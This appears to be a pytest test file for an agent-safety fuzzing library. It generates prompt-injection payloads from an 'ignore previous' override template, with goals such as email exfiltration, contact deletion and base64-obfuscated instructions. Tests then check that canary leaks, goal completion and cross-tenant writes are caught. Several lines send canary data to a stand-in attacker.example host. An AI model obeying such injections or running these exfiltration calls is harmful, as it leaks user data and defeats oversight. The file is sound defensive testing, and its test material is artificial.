"""Episodes, the safety properties (each must be able to fail), adversarial tool calls, the example DB."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from hypothesis.database import DirectoryBasedExampleDatabase

from pytest_agentops import Policy, fuzz, tool
from pytest_agentops.fuzz.corpus import default_corpus
from pytest_agentops.fuzz.payload import render

CORPUS = default_corpus()


def _payload(goal: str = "exfil_email", canary: str = "CANARY-0000c0de", **params: Any) -> fuzz.Payload:
    return render(
        CORPUS.template("override.ignore_previous"),
        CORPUS.goals[goal].with_params(**params),
        canary,
        style="tool_call",
        call_clause=CORPUS.call_clause,
    )


# ---- episodes -----------------------------------------------------------------------------------


def test_each_episode_is_a_fresh_world() -> None:
    with fuzz.episode() as first:
        first.billing.create_customer(name="Ada")
        assert len(first.billing.all("customers")) == 1
    with fuzz.episode() as second:
        assert second.billing.all("customers") == []
        assert second.run is not first.run and second.run.events == []


def test_the_sink_answers_unknown_hosts_locally() -> None:
    with fuzz.episode() as ep, httpx.Client() as client:
        response = client.post("https://attacker.example/collect?d=CANARY-00000001", json={"x": 1})
    assert response.status_code == 200 and response.headers["x-agentops-sink"] == "1"
    [event] = ep.run.events
    assert event.backend == "simulator" and event.arguments == {"x": 1}
    assert [r.url for r in ep.requests] == ["https://attacker.example/collect?d=CANARY-00000001"]


@pytest.mark.agent_policy(allow=["billing.*.retrieve"])
def test_episodes_inherit_the_tests_policy_and_can_refine_it(agent_run: Any) -> None:
    with fuzz.episode() as ep:
        with ep.billing.client() as client:
            denied = client.post("/v1/customers", data={"name": "Eve"})
        assert denied.status_code == 403 and ep.run.denials[0].rule == "allowlist"
    with fuzz.episode(policy=Policy(allow=["billing.*"])) as ep, ep.billing.client() as client:
        assert client.post("/v1/customers", data={"name": "Eve"}).status_code == 200
    assert agent_run.events == []  # episodes record on their own runs, not the test's


# ---- properties -----------------------------------------------------------------------------------


def test_canary_leak_is_caught_in_urls_and_bodies_even_obfuscated() -> None:
    payload = _payload()
    hidden = "CANARY-\u200b0000c0de"  # a zero-width space inside the canary
    with fuzz.episode() as ep, httpx.Client() as client:
        client.get("https://mail.example/send", params={"to": "exfil+CANARY-0000C0DE@attacker.example"})
    with pytest.raises(fuzz.PropertyViolation, match="reached 1 outbound request"):
        fuzz.assert_no_canary_leak(ep, payload)
    with fuzz.episode() as ep, httpx.Client() as client:
        client.post("https://mail.example/send", content=f"to=x&note={hidden}".encode())
    with pytest.raises(fuzz.PropertyViolation) as caught:
        fuzz.assert_no_canary_leak(ep, payload)
    assert "body/arguments" in str(caught.value) and payload.describe().splitlines()[0] in str(caught.value)
    fuzz.assert_no_canary_leak(ep, payload, allow=["https://mail.example/*"])  # allowed destination


def test_denied_attempts_and_model_calls_are_not_leaks() -> None:
    payload = _payload()
    with fuzz.episode(policy=Policy(allow=["billing.*.retrieve"])) as ep, httpx.Client() as client:
        assert client.get(f"https://attacker.example/?d={payload.canary}").status_code == 403
    assert ep.run.denials and not fuzz.leaks(ep, payload.canary)
    fuzz.assert_no_canary_leak(ep, payload)
    with fuzz.episode() as ep:
        fake = ep.fake_model("scripted", script=["ok"])
        import openai

        openai.OpenAI(base_url=fake.openai_base_url, api_key="k", max_retries=0).chat.completions.create(
            model="gpt-4o", messages=[{"role": "user", "content": payload.text}]
        )
    fuzz.assert_no_canary_leak(ep, payload)  # the model seeing the payload is the attack, not a leak
    with pytest.raises(fuzz.PropertyViolation):
        fuzz.assert_no_canary_leak(ep, payload, include_model=True)


def test_goal_reached_matches_structurally_without_a_canary() -> None:
    payload = _payload("delete_contact", contact_id="1")
    with fuzz.episode() as ep:
        ep.crm.seed({"contacts": [{"id": "1", "email": "a@example.com"}]})
        with ep.crm.client() as client:
            assert client.delete("/crm/v3/objects/contacts/1").status_code == 204
    assert [e.tool for e in fuzz.goal_reached(ep, payload)] == ["crm.contacts.delete"]
    with pytest.raises(fuzz.PropertyViolation, match="'delete_contact' was carried out"):
        fuzz.assert_goal_not_reached(ep, payload)
    with pytest.raises(fuzz.PropertyViolation, match="outside"):
        fuzz.assert_writes_within(ep, ["crm.notes.*"], payload)
    fuzz.assert_writes_within(ep, ["crm.*"])


def test_tools_within_counts_attempts_only_when_asked() -> None:
    with fuzz.episode(policy=Policy(allow=["billing.customers.list"])) as ep, ep.billing.client() as client:
        client.get("/v1/customers")
        client.get("/v1/refunds")  # denied: never reached the simulator
    fuzz.assert_tools_within(ep, ["billing.customers.list"])
    with pytest.raises(fuzz.PropertyViolation, match=r"billing\.refunds\.list"):
        fuzz.assert_tools_within(ep, ["billing.customers.list"], attempts=True)
    with pytest.raises(fuzz.PropertyViolation, match=r"billing\.customers\.list"):
        fuzz.assert_tools_within(ep, [], attempts=True)


def test_cross_tenant_writes_are_caught_from_the_ledger() -> None:
    with fuzz.episode() as ep:
        other = ep.billing.issue_token(tenant="globex")
        with ep.billing.client(token=other) as client:
            assert client.post("/v1/customers", data={"name": "Mallory"}).status_code == 200
    with pytest.raises(fuzz.PropertyViolation, match="tenant=globex"):
        fuzz.assert_no_cross_tenant_writes(ep)
    fuzz.assert_no_cross_tenant_writes(ep, tenant="globex")


def test_check_runs_them_all_and_passes_a_clean_episode() -> None:
    payload = _payload("refund", payment_intent="pi_1")
    with fuzz.episode() as ep, ep.billing.client() as client:
        client.get("/v1/customers")
    fuzz.check(ep, payload, allow_writes=[], allow_tools=["billing.*"])


# ---- adversarial tool calls -------------------------------------------------------------------------

ALLOWED = [
    "billing.customers.list",
    "billing.customers.retrieve",
    "billing.refunds.create",
    "billing.payment_intents.retrieve",
]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(calls=fuzz.tool_calls("billing", max_size=6, overrides={"customer": st.sampled_from(["cus_1", "cus_x"])}))
def test_policy_and_contracts_keep_their_invariants_under_adversarial_calls(calls: list[fuzz.ToolCall]) -> None:
    """No write outside the allowlist ever reaches the simulator's ledger; a refused call changes
    nothing; every write that reached the simulator is in the trace and in the ledger."""
    with fuzz.episode(policy=Policy(allow=ALLOWED)) as ep:
        sim = ep.billing.simulator
        sim.seed({"customers": [{"id": "cus_1", "name": "Ada"}]})
        outcomes = [fuzz.execute(ep, call) for call in calls]
    for call, outcome in zip(calls, outcomes, strict=True):
        assert outcome.denied == (call.tool not in ALLOWED), (call, outcome)
    ledger = list(sim.ledger)
    assert all(entry.tool in ALLOWED for entry in ledger)
    assert all(not entry.changes for entry in ledger if entry.outcome == "refused")
    reached = [e for e in ep.run.events if e.access == "write" and not e.denied]
    assert len(reached) == len([e for e in ledger if e.kind == "write"])


@settings(max_examples=40, deadline=None)
@given(calls=fuzz.tool_calls("billing", tools=["billing.customers.*"], max_size=4))
def test_read_only_policy_leaves_the_ledger_empty(calls: list[fuzz.ToolCall]) -> None:
    with fuzz.episode(policy=Policy(read_only=True)) as ep:
        for call in calls:
            fuzz.execute(ep, call)
    assert ep.billing.ledger.writes() == []


@settings(max_examples=80, deadline=None)
@given(call=fuzz.tool_call("billing", invalid=False))
def test_valid_calls_satisfy_the_schema(call: fuzz.ToolCall) -> None:
    assert isinstance(call.arguments, dict) and call.mutation is None
    info = next(t for t in fuzz.tools_of("billing") if t.name == call.tool)
    for name in info.schema.get("required") or ():
        assert name in call.arguments


RAN: list[dict[str, Any]] = []


@tool(kind="write", name="fuzz_test_transfer", risk="high")
def transfer(account: str, amount: int, memo: str = "") -> str:
    RAN.append({"account": account, "amount": amount})
    return "ok"


@settings(max_examples=80, deadline=None)
@given(call=fuzz.tool_call([transfer.spec]))  # type: ignore[attr-defined]
def test_python_tools_never_run_with_broken_arguments(call: fuzz.ToolCall) -> None:
    RAN.clear()
    with fuzz.episode() as ep:
        outcome = fuzz.execute(ep, call, [transfer.spec])  # type: ignore[attr-defined]
    assert bool(RAN) == call.valid, (call, outcome)
    if not call.valid:
        assert outcome.status == 422 and outcome.denied
        assert ep.run.denials[0].rule == "arguments"


def test_schema_breaking_mutations_are_all_drawn() -> None:
    seen: set[str] = set()

    @settings(max_examples=300, database=None, derandomize=True)
    @given(call=fuzz.tool_call("billing", tools=["billing.refunds.create", "billing.customers.retrieve"]))
    def collect(call: fuzz.ToolCall) -> None:
        if call.mutation:
            seen.add(call.mutation)

    collect()
    assert seen == set(fuzz.MUTATIONS)


# ---- the example database replays a failure -----------------------------------------------------------


def test_failures_are_saved_and_replayed_from_the_example_database(tmp_path: Path) -> None:
    db = DirectoryBasedExampleDatabase(tmp_path / "examples")
    runs: list[fuzz.Payload] = []

    def vulnerable(payload: fuzz.Payload) -> None:
        runs.append(payload)
        assert "base64" not in payload.obfuscations, "an agent that decodes base64 instructions"

    search = settings(database=db, max_examples=2000, deadline=None)(given(fuzz.injections())(vulnerable))
    with pytest.raises(AssertionError):
        search()
    assert any(True for _ in tmp_path.rglob("*"))  # saved
    runs.clear()
    replay = settings(database=db, phases=[Phase.reuse], deadline=None)(given(fuzz.injections())(vulnerable))
    with pytest.raises(AssertionError):
        replay()
    assert "base64" in runs[0].obfuscations and len(runs) <= 3  # straight to the saved example
